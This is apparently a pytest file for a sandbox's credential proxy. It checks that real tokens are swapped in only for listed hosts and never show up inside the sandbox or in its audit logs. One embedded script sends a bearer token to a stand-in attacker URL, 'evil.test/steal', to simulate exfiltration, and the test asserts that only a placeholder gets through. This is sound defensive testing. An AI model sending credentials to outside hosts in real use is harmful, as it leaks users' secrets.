"""inject = "proxy": the real value is swapped in by the proxy, only for listed hosts.

A local HTTPS server (test CA, TLS inspection on) sees the real header where
the sandbox sent the placeholder, and no header where it sent none; the
sandbox sees only the placeholder, even when the server echoes the request;
a request carrying the placeholder to a host that is not listed never gets
the value; no record holds the value.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from glassroom import Sandbox
from glassroom.egress import HostsResolver, NetworkOptions
from glassroom.egress.testing import LoopbackServer, TestCA

BACKENDS = ["namespaces", "gvisor"]
SECRET = "s3cr3t-proxy-canary-4f1c9e"

FETCH = """\
import os, ssl, urllib.request, urllib.error
ph = os.environ["GLASSROOM_SECRET_GH"]
print("PLACEHOLDER", ph)
ctx = ssl.create_default_context()
for url, auth in ((f"https://api.test:{PORT}/repos/x", None),
                  (f"https://api.test:{PORT}/repos/y", "Bearer " + ph),
                  (f"https://evil.test:{PORT}/steal", "Bearer " + ph),
                  (f"https://api.test:{PORT}/echo?chunked=5", "Bearer " + ph)):
    req = urllib.request.Request(url)
    if auth:
        req.add_header("Authorization", auth)
    try:
        r = urllib.request.urlopen(req, timeout=15, context=ctx)
        print("STATUS", r.status, dict(r.headers), r.read().decode())
    except urllib.error.HTTPError as e:
        print("STATUS", e.code)
"""


@pytest.fixture(scope="module")
def ca() -> Iterator[TestCA]:
    ca = TestCA(["api.test", "evil.test"])
    yield ca
    ca.cleanup()


@pytest.fixture(scope="module")
def server(ca: TestCA) -> Iterator[LoopbackServer]:
    with LoopbackServer(tls=ca) as srv:
        yield srv


@pytest.mark.parametrize("backend", BACKENDS)
def test_proxy_injects_only_for_listed_hosts(
    backend: str, ca: TestCA, server: LoopbackServer, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    monkeypatch.setenv("GLASSROOM_TEST_GH_TOKEN", SECRET)
    log = tmp_path / "a.jsonl"
    policy = {
        "network": {
            "allow": ["api.test", "evil.test"],
            "rules": [{"host": "api.test", "inspect_tls": True},
                      {"host": "evil.test", "inspect_tls": True}],
        },
        "credentials": [{"name": "gh", "source": "env:GLASSROOM_TEST_GH_TOKEN",
                         "inject": "proxy", "hosts": [f"api.test:{server.port}"],
                         "header": "Authorization: Bearer {secret}"}],
    }  # fmt: skip
    net = NetworkOptions(resolver=HostsResolver({"api.test": "127.0.0.1", "evil.test": "127.0.0.1"}),
                         upstream_ca=ca.ca_file)  # fmt: skip
    before = len(server.seen_headers)
    with Sandbox(policy, backend=backend, audit_log=log, network=net) as sb:
        res = sb.run(["python3", "-c", FETCH.replace("PORT", str(server.port))], timeout_s=60)
        env = sb.run(["env"]).stdout
        sid = sb.id
    assert res.exit_code == 0, res.stderr
    placeholder = res.stdout.split("PLACEHOLDER ", 1)[1].split()[0]
    assert placeholder.startswith("glsr-") and SECRET not in res.stdout + env
    assert res.stdout.count("STATUS 200") == 4
    seen = server.seen_headers[before:]
    auth = [h.get("Authorization", h.get("authorization")) for h in seen]
    # Listed host: nothing added when absent, swapped where the placeholder is sent.
    assert auth[0] is None and auth[1] == f"Bearer {SECRET}" and auth[3] == f"Bearer {SECRET}"
    # Unlisted host: the placeholder goes out as-is, never the value.
    assert auth[2] == f"Bearer {placeholder}"
    # The echo came back with the placeholder in place of the value.
    assert f"Bearer {placeholder}" in res.stdout.rsplit("STATUS", 1)[1]
    text = log.read_text()
    assert SECRET not in text
    recs = [json.loads(x) for x in text.splitlines() if json.loads(x)["sandbox"] == sid]
    used = [r for r in recs if r["event"] == "credential.used"]
    assert [r["details"]["host"] for r in used] == ["api.test", "api.test"]
    red = [r for r in recs if r["event"] == "credential.redacted"]
    assert [(r["details"]["host"], r["details"]["count"], r["decision"], r["rule"])
            for r in red] == [("api.test", 2, "deny", "credentials[0].inject")]  # fmt: skip
    blocked = [r for r in recs if r["event"] == "credential.placeholder_blocked"]
    assert blocked and blocked[0]["details"]["host"] == "evil.test"
    assert blocked[0]["decision"] == "deny" and blocked[0]["rule"] == "credentials[0].hosts"


AGENT = """\
import os, ssl, urllib.request
print("VARS", sorted(k for k in os.environ if "SECRET" in k or k.endswith("_API_KEY")))
req = urllib.request.Request(f"https://api.test:{PORT}/v1/models")
req.add_header("Authorization", "Bearer " + os.environ["OPENAI_API_KEY"])
r = urllib.request.urlopen(req, timeout=15, context=ssl.create_default_context())
print("STATUS", r.status)
"""


@pytest.mark.parametrize("backend", BACKENDS)
def test_placeholder_goes_in_the_variable_the_agent_reads(
    backend: str, ca: TestCA, server: LoopbackServer, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """``env = "OPENAI_API_KEY"``: an agent that reads its usual variable sends
    the placeholder and the proxy swaps in the value; the default
    GLASSROOM_SECRET_* variable is not set.  The ``inject = "env"`` twin gets
    its value in the variable it names, and each ``credential.injected``
    record names its own variable.  (The refusals -- reserved variables, two
    credentials in one variable -- are in tests/unit/test_policy.py.)"""
    monkeypatch.setenv("GLASSROOM_TEST_AI_TOKEN", SECRET)
    monkeypatch.setenv("GLASSROOM_TEST_OTHER", "other-value-in-env")
    log = tmp_path / "a.jsonl"
    policy = {
        "network": {"allow": ["api.test"], "rules": [{"host": "api.test", "inspect_tls": True}]},
        "credentials": [
            {"name": "ai", "source": "env:GLASSROOM_TEST_AI_TOKEN", "inject": "proxy",
             "hosts": [f"api.test:{server.port}"], "env": "OPENAI_API_KEY"},
            {"name": "other", "source": "env:GLASSROOM_TEST_OTHER", "inject": "env",
             "env": "ANTHROPIC_API_KEY"},
        ],
    }  # fmt: skip
    net = NetworkOptions(resolver=HostsResolver({"api.test": "127.0.0.1"}), upstream_ca=ca.ca_file)
    before = len(server.seen_headers)
    with Sandbox(policy, backend=backend, audit_log=log, network=net) as sb:
        res = sb.run(["python3", "-c", AGENT.replace("PORT", str(server.port))], timeout_s=60)
        other = sb.run(["sh", "-c", "echo $ANTHROPIC_API_KEY"]).stdout.strip()
        sid = sb.id
    assert res.exit_code == 0, res.stderr
    assert "VARS ['ANTHROPIC_API_KEY', 'OPENAI_API_KEY']" in res.stdout  # no GLASSROOM_SECRET_*
    assert "STATUS 200" in res.stdout and SECRET not in res.stdout
    assert other == "other-value-in-env"
    auth = [h.get("Authorization", h.get("authorization")) for h in server.seen_headers[before:]]
    assert auth == [f"Bearer {SECRET}"]
    recs = [json.loads(x) for x in log.read_text().splitlines() if json.loads(x)["sandbox"] == sid]
    where = {r["details"]["name"]: r["details"]["where"]
             for r in recs if r["event"] == "credential.injected"}  # fmt: skip
    assert where == {"ai": "OPENAI_API_KEY (placeholder; the proxy adds the value)",
                     "other": "ANTHROPIC_API_KEY"}  # fmt: skip
    assert SECRET not in log.read_text()
